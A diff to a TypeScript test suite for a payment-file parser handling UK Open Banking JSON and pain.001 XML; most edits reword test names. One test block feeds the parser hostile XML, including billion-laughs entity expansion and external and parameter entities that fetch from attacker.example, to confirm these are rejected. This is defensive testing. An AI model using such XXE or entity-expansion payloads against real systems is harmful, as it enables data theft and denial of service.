@@ -12,8 +12,8 @@ const read = (type: FileType, content: string | Uint8Array) =>
   parseFile(type, typeof content === 'string' ? bytesOf(content) : content)
 
 /**
- * How a file is refused: the problem, the standard's code and the path in the file; `taken` where
- * it is not.
+ * Returns how a file is rejected: the problem, the standard's code and the path in the file.
+ * Returns `taken` for an accepted file.
  */
 async function refusal(type: FileType, content: string | Uint8Array): Promise<string> {
   try {
@@ -36,18 +36,18 @@ const escaped = payments.map((one) => ({
   ...(one.reference !== undefined && { reference: one.reference.replace('&', '&amp;') }),
 }))
 
-describe('a file says the same payments in every form', () => {
+describe('a file has the same payments in every format', () => {
   const account = (SchemeName: string, Identification: string, Name: string) => ({ SchemeName, Identification, Name })
   const bob = account('UK.OBIE.SortCodeAccountNumber', '08080021325698', 'Bob Clements')
   const ada = account('UK.OBIE.IBAN', 'GB29NWBK60161331926819', 'Ada "Byron" <Lovelace>')
 
-  test('UK JSON 4.0: each payment is an initiation, word for word', async () => {
+  test('UK JSON 4.0: each payment is an initiation, unchanged', async () => {
     const { entries, days } = await read(json, ukJson(payments))
     expect(entries.map(({ initiation }) => initiation)).toEqual(JSON.parse(ukJson(payments)).Data.DomesticPayments)
     expect(days).toEqual([])
   })
 
-  test('UK JSON 3.1: its reference and text go where version 4.0 has them', async () => {
+  test('UK JSON 3.1: reference and text map to the fields of version 4.0', async () => {
     const { entries } = await read(json31, ukJson31([{ amount: '1.00' }]))
     expect(entries.map(({ initiation }) => initiation)).toEqual([
       {
@@ -63,7 +63,7 @@ describe('a file says the same payments in every form', () => {
     ])
   })
 
-  test('pain.001: each transfer is the domestic payment that it comes to', async () => {
+  test('pain.001: each transfer maps to a domestic payment', async () => {
     const { entries, days } = await read(xml, pain001(escaped))
     const DebtorAccount = account('UK.OBIE.SortCodeAccountNumber', '60000000000001', 'Example Ltd')
     expect(entries.map(({ initiation }) => initiation)).toEqual([
@@ -88,7 +88,7 @@ describe('a file says the same payments in every form', () => {
     expect(days).toEqual([{ day: '2026-11-24', path: 'Document.CstmrCdtTrfInitn.PmtInf.0.ReqdExctnDt' }])
   })
 
-  test('pain.001: a sort code may stand with the bank, a number of 8 digits in the account', async () => {
+  test('pain.001: accepts a sort code at the agent with an account number of 8 digits', async () => {
     const apart = pain001([{ amount: '1.00', to: '21325698' }]).replace(
       '<Cdtr>',
       '<CdtrAgt><FinInstnId><ClrSysMmbId><ClrSysId><Cd>GBDSC</Cd></ClrSysId><MmbId>080800</MmbId></ClrSysMmbId></FinInstnId></CdtrAgt><Cdtr>',
@@ -96,7 +96,7 @@ describe('a file says the same payments in every form', () => {
     expect((await read(xml, apart)).entries[0]?.initiation.CreditorAccount).toEqual(bob)
   })
 
-  test('pain.001: several groups are one file, and each payment knows its place', async () => {
+  test('pain.001: several groups are one file, and each payment keeps its position', async () => {
     const one = pain001([{ amount: '1.00' }])
     const group = /<PmtInf>[\s\S]*<\/PmtInf>/.exec(one)?.[0] as string
     const two = one
@@ -110,7 +110,7 @@ describe('a file says the same payments in every form', () => {
   })
 })
 
-describe('a file in UK JSON is refused with the path in it', () => {
+describe('a file in UK JSON is rejected with a path into it', () => {
   const file = () => JSON.parse(ukJson(payments))
   const but = (change: (one: ReturnType<typeof file>) => void) => {
     const changed = file()
@@ -153,20 +153,20 @@ describe('a file in UK JSON is refused with the path in it', () => {
     expect(await refusal(json, content)).toBe(said)
   })
 
-  test('one in the words of version 4.0 that says to be of 3.1', async () => {
+  test('a file of version 4.0 that is announced as 3.1', async () => {
     expect(await refusal(json31, ukJson([{ amount: '1.00', reference: 'x' }]))).toBe(
       `field-invalid U002 ${first}.RemittanceInformation.Unstructured`,
     )
   })
 
-  test('one with a payment too many', async () => {
+  test('a file with one payment too many', async () => {
     const many = Array.from({ length: maxPayments + 1 }, () => ({ amount: '1.00' }))
     expect(await refusal(json, ukJson(many.slice(1)))).toBe('taken')
     expect(await refusal(json, ukJson(many))).toBe('field-invalid U002 Data.DomesticPayments')
   })
 })
 
-describe('a file in pain.001 is refused with the path in it', () => {
+describe('a file in pain.001 is rejected with a path into it', () => {
   const top = 'Document.CstmrCdtTrfInitn'
   const first = `${top}.PmtInf.0.CdtTrfTxInf.0`
   const file = pain001([{ amount: '21.00' }, { amount: '22.50' }])
@@ -241,12 +241,12 @@ describe('a file in pain.001 is refused with the path in it', () => {
     expect(await refusal(xml, changed)).toBe(said)
   })
 
-  test('one of another message', async () => {
+  test('a file of another message type', async () => {
     const report = file.replaceAll('CstmrCdtTrfInitn>', 'CstmrPmtStsRpt>')
     expect(await refusal(xml, report)).toBe(`field-missing U004 ${top}`)
   })
 
-  test('one with a payment too many, over its groups', async () => {
+  test('a file with one payment too many over all groups', async () => {
     const half = Array.from({ length: maxPayments / 2 }, () => ({ amount: '1.00' }))
     const one = pain001([...half, { amount: '1.00' }])
     const group = /<PmtInf>[\s\S]*<\/PmtInf>/.exec(one)?.[0] as string
@@ -254,7 +254,7 @@ describe('a file in pain.001 is refused with the path in it', () => {
   })
 })
 
-test('an element whose parts may all be left out may be empty', async () => {
+test('an element with only optional children may be empty', async () => {
   const file = pain001([{ amount: '1.00', reference: 'r' }])
   const none = 'NOTPROVIDED'
   const bare = file
@@ -267,7 +267,7 @@ test('an element whose parts may all be left out may be empty', async () => {
   expect(entry?.initiation).toMatchObject({ InstructedAmount: { Amount: '1.00' } })
 })
 
-describe('an attack by XML is refused, at once', () => {
+describe('an XML attack is rejected at once', () => {
   const root = (inside: string, before = '') => `<?xml version="1.0"?>${before}<Document>${inside}</Document>`
   const laughs = Array.from({ length: 9 }, (_, n) => `<!ENTITY lol${n + 1} "${`&lol${n};`.repeat(10)}">`).join('')
 
@@ -278,7 +278,7 @@ describe('an attack by XML is refused, at once', () => {
     ['an external entity of the document type', root('', '<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd">')],
     ['a parameter entity', root('', '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/p"> %p;]>')],
     ['a document type in small letters', root('', '<!doctype x>')],
-    ['an entity that nobody declared', root('&nbsp;')],
+    ['an entity that is not declared', root('&nbsp;')],
     ['a character that there is not', root('<MsgId>&#x110000;</MsgId>')],
     ['half a character', root('<MsgId>&#xD800;</MsgId>')],
     ['a control character by number', root('<MsgId>&#7;</MsgId>')],
@@ -293,11 +293,11 @@ describe('an attack by XML is refused, at once', () => {
     expect(performance.now() - before).toBeLessThan(2_000)
   })
 
-  test('an element named for what every object has is refused by name', async () => {
+  test('an element named like a property of every object is rejected by name', async () => {
     expect(await refusal(xml, root('<toString>1</toString>'))).toMatch(/^(field-|body-malformed)/)
   })
 
-  test('ten thousand escaped characters are no attack', async () => {
+  test('ten thousand escaped characters are accepted', async () => {
     const polite = pain001([
       { amount: '1.00', reference: '&amp;'.repeat(28) },
       ...Array.from({ length: 400 }, () => ({ amount: '1.00', reference: '&amp;'.repeat(28) })),
